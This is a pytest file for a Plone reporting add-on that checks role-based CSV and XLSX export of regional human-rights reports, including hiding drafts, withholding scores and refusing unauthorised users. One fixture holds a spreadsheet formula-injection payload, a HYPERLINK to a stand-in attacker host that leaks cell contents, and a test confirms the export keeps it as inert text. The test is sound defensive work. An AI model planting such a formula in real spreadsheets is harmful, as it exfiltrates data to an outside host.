"""CSV and XLSX export of a period's reports: only what the exporting role may read."""

from kemenkumham.ham.reporting.rows import update_rows
from plone import api
from plone.app.testing import setRoles
from plone.app.testing import TEST_USER_ID
from Products.DCWorkflow.utils import modifyRolesForPermission
from tests.reporting.period_site import add_member
from tests.reporting.period_site import make_period_site
from tests.reporting.period_site import PASSWORD

import csv
import io
import openpyxl
import pytest
import requests
import transaction


INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
PDF = b"%PDF-1.4\n% contoh\n"
USERS = {
    "editor1": "bidang-ham",
    "verif1": "verifikator",
    "penilai1": "tim-penilai",
    "ani": "mitra-kota-serang",
    "humas1": "humas",
}


@pytest.fixture
def site(functional):
    portal = functional["portal"]
    setRoles(portal, TEST_USER_ID, ["Manager"])
    tree = make_period_site(portal)
    update_rows(
        tree["report_b"],
        {
            "KKP-06.03": {
                "note": INJECTION,
                "evidence": [{"data": PDF, "filename": "data-puskesmas.pdf"}],
            }
        },
    )
    update_rows(tree["report_a"], {"KKP-06.03": {"note": "Catatan draf rahasia"}})
    for username, group in USERS.items():
        add_member(username, group)
    transaction.commit()
    return portal, tree


def export(period, username, fmt="csv"):
    return requests.get(
        f"{period.absolute_url()}/@@export-reports",
        params={"format": fmt},
        auth=(username, PASSWORD),
        timeout=60,
        allow_redirects=False,
    )


def csv_lines(response):
    assert response.status_code == 200, response.text
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.headers["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def workbook(response):
    assert response.status_code == 200, response.text
    return openpyxl.load_workbook(io.BytesIO(response.content))


def by_partner(lines, column=0):
    found = {}
    for line in lines[1:]:
        found.setdefault(line[column], []).append(line)
    return found


def test_editor_gets_submitted_and_final_reports_never_drafts(site):
    portal, tree = site
    response = export(tree["period"], "editor1")
    assert 'filename="laporan-kkp-ham-2024.csv"' in response.headers["Content-Disposition"]
    assert "no-store" in response.headers["Cache-Control"]
    lines = csv_lines(response)
    assert lines[0] == [
        "Partner",
        "Province",
        "Regency/city",
        "Report state",
        "Indicator code",
        "Indicator",
        "Measurement",
        "Value",
        "Note",
        "Evidence files",
        "Verification",
        "Verifier's remark",
        "Score",
    ]
    partners = by_partner(lines)
    # Drafts are the partner's own: Kota Serang's report is not in the file, nor its note.
    assert set(partners) == {
        "Pemerintah Kabupaten Lebak",
        "Pemerintah Kabupaten Pandeglang",
        "Pemerintah Kota Tangerang",
    }
    assert "Catatan draf rahasia" not in response.content.decode("utf-8-sig")
    lebak = {line[4]: line for line in partners["Pemerintah Kabupaten Lebak"]}
    assert lebak["KKP-06.03"][:4] == [
        "Pemerintah Kabupaten Lebak",
        "Banten",
        "Kabupaten Lebak",
        "Submitted",
    ]
    assert lebak["KKP-06.03"][5:8] == ["Contoh indikator kesehatan", "Percentage", "80"]
    assert lebak["KKP-06.03"][9] == "data-puskesmas.pdf"
    final = {line[4]: line for line in partners["Pemerintah Kota Tangerang"]}
    assert final["KKP-07.01"][7] == "5"
    assert final["KKP-07.01"][10] == "Accepted"
    assert final["KKP-07.01"][12] == "80"


def test_a_formula_in_a_note_stays_text(site):
    portal, tree = site
    lines = csv_lines(export(tree["period"], "editor1"))
    lebak = {line[4]: line for line in by_partner(lines)["Pemerintah Kabupaten Lebak"]}
    assert lebak["KKP-06.03"][8] == "'" + INJECTION
    sheet = workbook(export(tree["period"], "editor1", "xlsx")).worksheets[0]
    notes = [row for row in sheet.iter_rows(min_row=2) if row[8].value == INJECTION]
    assert len(notes) == 1
    assert notes[0][8].data_type == "s"  # text, not a formula


def test_verifier_and_assessor_see_only_what_their_role_reads(site):
    portal, tree = site
    verifier = by_partner(csv_lines(export(tree["period"], "verif1")))
    assert set(verifier) == {
        "Pemerintah Kabupaten Lebak",
        "Pemerintah Kabupaten Pandeglang",
        "Pemerintah Kota Tangerang",
    }
    # Assessors work on verified reports: submitted ones and those in revision are not theirs.
    assessor = by_partner(csv_lines(export(tree["period"], "penilai1")))
    assert set(assessor) == {"Pemerintah Kota Tangerang"}
    assert {line[12] for line in assessor["Pemerintah Kota Tangerang"]} == {"80"}


def test_xlsx_has_a_sheet_per_indicator_line_and_one_per_report(site):
    portal, tree = site
    response = export(tree["period"], "verif1", "xlsx")
    assert 'filename="laporan-kkp-ham-2024.xlsx"' in response.headers["Content-Disposition"]
    book = workbook(response)
    assert book.sheetnames == ["Indicators", "Reports"]
    indicators = list(book["Indicators"].iter_rows(values_only=True))
    assert len(indicators) == 1 + 3 * 2
    tangerang = [row for row in indicators if row[0] == "Pemerintah Kota Tangerang"]
    assert [row[7] for row in tangerang] == [80, 5]  # numbers stay numbers
    reports = list(book["Reports"].iter_rows(values_only=True))
    assert reports[0] == (
        "Partner",
        "Province",
        "Regency/city",
        "Report state",
        "Total score",
        "Predicate",
        "Finalised on",
    )
    rows = {row[0]: row for row in reports[1:]}
    assert set(rows) == {
        "Pemerintah Kabupaten Lebak",
        "Pemerintah Kabupaten Pandeglang",
        "Pemerintah Kota Tangerang",
    }
    final = rows["Pemerintah Kota Tangerang"]
    assert final[3:6] == ("Final", 80, "Peduli HAM")
    assert final[6] == tree["report_final"].finalised.isoformat()


def test_scores_are_left_out_where_the_role_may_not_read_them(site):
    portal, tree = site
    # Workflows are configuration: an office may keep scores from editors (Reviewer).
    modifyRolesForPermission(
        tree["report_final"],
        "kemenkumham.ham: View report scores",
        ("Manager", "Site Administrator", "HAMVerifier", "HAMAssessor"),
    )
    transaction.commit()
    editor = by_partner(csv_lines(export(tree["period"], "editor1")))
    assert {line[12] for line in editor["Pemerintah Kota Tangerang"]} == {""}
    reports = list(workbook(export(tree["period"], "editor1", "xlsx"))["Reports"].values)
    final = next(row for row in reports if row[0] == "Pemerintah Kota Tangerang")
    assert final[4:6] == (None, None)
    assert "Peduli HAM" not in str(reports)
    verifier = by_partner(csv_lines(export(tree["period"], "verif1")))
    assert {line[12] for line in verifier["Pemerintah Kota Tangerang"]} == {"80"}


@pytest.mark.parametrize("username", ["ani", "humas1", None])
def test_partners_humas_and_anonymous_get_no_export(site, username):
    portal, tree = site
    response = requests.get(
        f"{tree['period'].absolute_url()}/@@export-reports?format=csv",
        auth=(username, PASSWORD) if username else None,
        timeout=60,
        allow_redirects=False,
    )
    # Plone's answer to a page the user may not see: its login / insufficient-privileges form.
    assert response.status_code == 302, response.status_code
    assert "/require_login?came_from=" in response.headers["Location"]
    assert "Pemerintah" not in response.text


def test_unknown_format_is_refused_with_a_message(site):
    portal, tree = site
    response = export(tree["period"], "editor1", "pdf")
    assert response.status_code == 400
    assert response.text == "Format 'pdf' is not offered: choose csv or xlsx."


def test_completeness_page_links_only_to_reports_the_user_may_open(site):
    portal, tree = site
    response = requests.get(
        f"{tree['period'].absolute_url()}/@@completeness",
        auth=("editor1", PASSWORD),
        timeout=60,
    )
    assert response.status_code == 200
    page = response.text
    assert "Pemerintah Kota Cilegon" in page
    assert "Not started" in page
    assert f'href="{tree["report_b"].absolute_url()}"' in page
    assert f'href="{tree["report_a"].absolute_url()}"' not in page  # a draft: state only
    assert "Pemerintah Kota Serang" in page
    filtered = requests.get(
        f"{tree['period'].absolute_url()}/@@completeness?state=draft",
        auth=("editor1", PASSWORD),
        timeout=60,
    ).text
    assert "Pemerintah Kota Serang" in filtered
    assert "Pemerintah Kabupaten Lebak" not in filtered
    assert api.content.get_state(tree["report_a"]) == "draft"
